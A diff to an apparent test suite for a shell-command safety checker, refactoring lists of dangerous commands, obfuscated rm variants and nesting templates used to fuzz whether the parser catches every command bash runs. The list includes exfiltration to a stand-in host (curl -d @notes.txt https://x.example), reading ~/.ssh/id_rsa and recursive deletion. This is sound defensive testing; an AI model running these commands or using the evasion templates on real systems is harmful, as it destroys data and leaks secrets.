@@ -2,6 +2,7 @@
 
 import json
 import random
+import re
 import shutil
 import subprocess
 import time
@@ -74,63 +75,132 @@ def test_disputed_commands_come_out_as_we_chose(row: str, command: str, expected
 
 # ---- random nestings of dangerous commands ---------------------------------------------------------------------------
 
-DANGEROUS = [
-    "rm -rf ./src", "git push origin main", "curl -d @notes.txt https://x.example", "git reset --hard", "kill -9 123",
-    "npm publish", "cat ~/.ssh/id_rsa", "echo x > /opt/out", "sudo ls", "find . -delete", "tee /etc/motd", "ssh host ls",
-    "r''m -rf src", "\"rm\" -r src", "r\\m src", "$'rm' x", "{rm,-rf,src}", "/bin/rm x", "a=rm; $a x", "$(echo rm) x",
-]  # fmt: skip
-HARMLESS = [
-    "ls",
-    "git status",
-    "echo hi",
-    "cat a.txt",
-    "true",
-    "pwd",
-    "grep -n x a",
-    "[ -f a ]",
-    "x=1",
-    "wc -l a | sort",
-]
+DANGEROUS = """
+rm -rf ./src
+git push origin main
+curl -d @notes.txt https://x.example
+git reset --hard
+kill -9 123
+npm publish
+cat ~/.ssh/id_rsa
+echo x > /opt/out
+sudo ls
+find . -delete
+tee /etc/motd
+ssh host ls
+r''m -rf src
+"rm" -r src
+r\\m src
+$'rm' x
+{rm,-rf,src}
+/bin/rm x
+a=rm; $a x
+$(echo rm) x
+"""
+HARMLESS = ["ls", "git status", "echo hi", "cat a.txt", "true", "pwd", "grep -n x a", "[ -f a ]", "x=1", "wc -l a"]
+
+WRAPPERS = """
+env ‹c›
+env A=1 ‹c›
+nohup ‹c›
+timeout 5 ‹c›
+timeout -k 1 5s ‹c›
+nice -n 5 ‹c›
+stdbuf -oL ‹c›
+command ‹c›
+time ‹c›
+setsid ‹c›
+ls | xargs ‹c›
+find . -name a -exec ‹c› \\;
+busybox ‹c›
+strace ‹c›
+"""
+"""‹c› is a simple command"""
+
+SHELLS = """
+bash -c ‹q›
+sh -ec ‹q›
+eval ‹q›
+env bash -lc ‹q›
+echo a | xargs -I% sh -c ‹q›
+watch ‹q›
+trap ‹q› EXIT
+bash <<< ‹q›
+bash <<'E'⏎‹c›⏎E
+flock l -c ‹q›
+script -qc ‹q› /dev/null
+find . -exec sh -c ‹q› \\;
+echo ‹q› | bash
+awk ‹a›
+"""
+"""‹q› is the command quoted, ‹a› an awk program that runs it"""
+
+STRUCTURES = """
+‹h›; ‹c›
+‹h› && ‹c›
+‹h› || ‹c›
+‹h›⏎‹c›
+‹c› & ‹h›
+‹h› | ‹c›
+‹c› | ‹h›
+‹h› | ‹c› | ‹h›
+‹h›; ( ‹c› )
+{ ‹c›; }
+! ‹c›
+if ‹h›; then ‹c›; fi
+if ‹c›; then ‹h›; fi
+if ‹h›⏎then ‹h›⏎else⏎‹c›⏎fi
+while ‹c›; do ‹h›; done
+until ‹h›; do ‹c›; done
+for i in 1 2; do ‹c›; done
+for i in $(‹c›); do ‹h›; done
+case a in a) ‹c›;; esac
+echo $(‹c›)
+echo "a $(‹c›) b"
+x=$(‹c›)
+cat <(‹c›)
+ls >(‹c›)
+echo ${x:-$(‹c›)}
+echo $(( $(‹c›) ))
+[[ $(‹c›) ]]
+cat <<E⏎$(‹c›)⏎E
+{ f() { ‹c›; }; f; }
+{ ls() { ‹c›; }; ls; }
+# it's⏎‹c›
+‹h› # c⏎‹c›
+cd src && ‹c›
+A=1 ‹c›
+cat <<'E'⏎‹h›⏎E⏎‹c›
+‹h› \\⏎&& ‹c›
+a=(1 $(‹c›))
+export X=$(‹c›)
+echo x >$(‹c›)
+coproc ‹c›
+select i in a; do ‹c›; done
+"""
+"""‹h› is a harmless command"""
 
 
-def quoted(text: str) -> str:
-    return "'" + text.replace("'", "'\\''") + "'"
-
-
-WRAPPERS: list[Callable[[str], str]] = [
-    lambda c: f"env {c}", lambda c: f"env A=1 {c}", lambda c: f"nohup {c}", lambda c: f"timeout 5 {c}", lambda c: f"timeout -k 1 5s {c}",
-    lambda c: f"nice -n 5 {c}", lambda c: f"stdbuf -oL {c}", lambda c: f"command {c}", lambda c: f"time {c}", lambda c: f"setsid {c}",
-    lambda c: f"ls | xargs {c}", lambda c: f"find . -name a -exec {c} \\;", lambda c: f"busybox {c}", lambda c: f"strace {c}",
-]  # fmt: skip
-SHELLS: list[Callable[[str], str]] = [
-    lambda c: f"bash -c {quoted(c)}", lambda c: f"sh -ec {quoted(c)}", lambda c: f"eval {quoted(c)}", lambda c: f"env bash -lc {quoted(c)}",
-    lambda c: f"echo a | xargs -I% sh -c {quoted(c)}", lambda c: f"watch {quoted(c)}", lambda c: f"trap {quoted(c)} EXIT",
-    lambda c: f"bash <<< {quoted(c)}", lambda c: f"bash <<'E'\n{c}\nE", lambda c: f"flock l -c {quoted(c)}", lambda c: f"script -qc {quoted(c)} /dev/null",
-    lambda c: f"find . -exec sh -c {quoted(c)} \\;", lambda c: f"echo {quoted(c)} | bash", lambda c: f"awk {quoted(f'BEGIN{{system({json.dumps(c)})}}')}",
-]  # fmt: skip
-STRUCTURES: list[Callable[[str, str], str]] = [
-    lambda c, h: f"{h}; {c}", lambda c, h: f"{h} && {c}", lambda c, h: f"{h} || {c}", lambda c, h: f"{h}\n{c}", lambda c, h: f"{c} & {h}",
-    lambda c, h: f"{h} | {c}", lambda c, h: f"{c} | {h}", lambda c, h: f"{h} | {c} | {h}", lambda c, h: f"{h}; ( {c} )", lambda c, h: f"{{ {c}; }}", lambda c, h: f"! {c}",
-    lambda c, h: f"if {h}; then {c}; fi", lambda c, h: f"if {c}; then {h}; fi", lambda c, h: f"if {h}\nthen {h}\nelse\n{c}\nfi", lambda c, h: f"while {c}; do {h}; done",
-    lambda c, h: f"for i in 1 2; do {c}; done", lambda c, h: f"for i in $({c}); do {h}; done", lambda c, h: f"case a in a) {c};; esac",
-    lambda c, h: f"echo $({c})", lambda c, h: f'echo "a $({c}) b"', lambda c, h: f"x=$({c})", lambda c, h: f"cat <({c})", lambda c, h: f"ls >({c})",
-    lambda c, h: f"echo ${{x:-$({c})}}", lambda c, h: f"echo $(( $({c}) ))", lambda c, h: f"[[ $({c}) ]]", lambda c, h: f"cat <<E\n$({c})\nE",
-    lambda c, h: f"{{ f() {{ {c}; }}; f; }}", lambda c, h: f"{{ ls() {{ {c}; }}; ls; }}", lambda c, h: f"# it's\n{c}", lambda c, h: f"{h} # c\n{c}",
-    lambda c, h: f"cd src && {c}", lambda c, h: f"A=1 {c}", lambda c, h: f"cat <<'E'\n{h}\nE\n{c}", lambda c, h: f"{h} \\\n&& {c}", lambda c, h: f"until {h}; do {c}; done",
-    lambda c, h: f"a=(1 $({c}))", lambda c, h: f"export X=$({c})", lambda c, h: f"echo x >$({c})", lambda c, h: f"coproc {c}", lambda c, h: f"select i in a; do {c}; done",
-]  # fmt: skip
+def filled(source: random.Random, templates: str, command: str) -> str:
+    """One of the templates with the command in it."""
+    template = source.choice(templates.strip().split("\n")).replace("⏎", "\n")
+    quoted = "'" + command.replace("'", "'\\''") + "'"
+    program = f"BEGIN{{system({json.dumps(command)})}}".replace("'", "'\\''")
+    for mark, text in (("‹h›", source.choice(HARMLESS)), ("‹q›", quoted), ("‹a›", f"'{program}'"), ("‹c›", command)):
+        template = template.replace(mark, text)
+    return template
 
 
 def nested(source: random.Random, depth: int) -> str:
-    command = source.choice(DANGEROUS)
+    command = source.choice(DANGEROUS.strip().split("\n"))
     for _ in range(depth):
         kind = source.random()
-        if kind < 0.2 and "\n" not in command and not any(sign in command for sign in ";|&(){}=<>"):
-            command = source.choice(WRAPPERS)(command)
+        if kind < 0.2 and not any(sign in command for sign in "\n;|&(){}=<>"):
+            command = filled(source, WRAPPERS, command)
         elif kind < 0.45:
-            command = source.choice(SHELLS)(command)
+            command = filled(source, SHELLS, command)
         else:
-            command = source.choice(STRUCTURES)(command, source.choice(HARMLESS))
+            command = filled(source, STRUCTURES, command)
     return command
 
 
@@ -156,69 +226,25 @@ def test_padding_hides_nothing() -> None:
 
 # ---- bash as the judge -----------------------------------------------------------------------------------------------
 
-WORDS = [
-    "a",
-    "-x",
-    '"q z"',
-    "'s t'",
-    "a\\ b",
-    "x#y",
-    "$x",
-    '"$x"',
-    "${y:-d}",
-    "{a,b}",
-    "$'n\\t'",
-    '"$@"',
-    "$(true)",
-    "a=b",
-    "\\#",
-    "2",
-    "~",
-    "*.q",
-    '"#"',
-]
+WORDS = r"""
+a|-x|"q z"|'s t'|a\ b|x#y|$x|"$x"|${y:-d}|{a,b}|$'n\t'|"$@"|$(true)|a=b|\#|2|~|*.q|"#"
+""".strip().split("|")
 COMMANDS = ["ls", "cat", "git status", "grep a", "wc -l", "head -1", "pwd", "true", "test -f", "echo"]
+SCARS = ["\n", "\\", "\\\n", "#", " ", "'", '"', ";", "|", "&", "(", ")", "{", "}", "$", "`", "\t", "<<E\n", "\nE\n"]
+"""what a mutation puts somewhere"""
 
 
 def random_script(source: random.Random, depth: int) -> str:
     if depth == 0:
         return " ".join([source.choice(COMMANDS), *source.choices(WORDS, k=source.randint(0, 3))])
-    kind = source.random()
-    if kind < 0.3:
-        return source.choice(SHELLS[:3])(random_script(source, depth - 1))
-    return source.choice(STRUCTURES[:-2])(random_script(source, depth - 1), random_script(source, 0))
+    inner = random_script(source, depth - 1)
+    return filled(source, "bash -c ‹q›\neval ‹q›" if source.random() < 0.3 else STRUCTURES, inner)
 
 
 def mutated(source: random.Random, text: str) -> str:
     for _ in range(source.choice([0, 0, 1, 1, 2])):
         at = source.randint(0, len(text))
-        text = (
-            text[:at]
-            + source.choice(
-                [
-                    "\n",
-                    "\\",
-                    "\\\n",
-                    "#",
-                    " ",
-                    "'",
-                    '"',
-                    ";",
-                    "|",
-                    "&",
-                    "(",
-                    ")",
-                    "{",
-                    "}",
-                    "$",
-                    "`",
-                    "\t",
-                    "<<E\n",
-                    "\nE\n",
-                ]
-            )
-            + text[at:]
-        )
+        text = text[:at] + source.choice(SCARS) + text[at:]
     return text
 
 
@@ -235,11 +261,15 @@ def bash_runs(text: str, folder: Path) -> list[tuple[str, ...]]:
     return [tuple(command.split("\0")[:-1]) for command in ran]
 
 
+PIPE = re.compile(r"^/dev/fd/\d+$")
+"""bash gives process substitutions numbers of its own"""
+
+
 def fits(argv: tuple[str | None, ...], ran: tuple[str, ...]) -> bool:
     """Whether these words, some known only at run time, may be those that ran."""
     if None in argv:
         return argv[0] in (None, ran[0])
-    return argv == ran
+    return [w and PIPE.sub("", w) for w in argv] == [PIPE.sub("", w) for w in ran]
 
 
 def test_every_command_that_bash_runs_was_seen(tmp_path: Path, rounds: Callable[[int], int]) -> None:
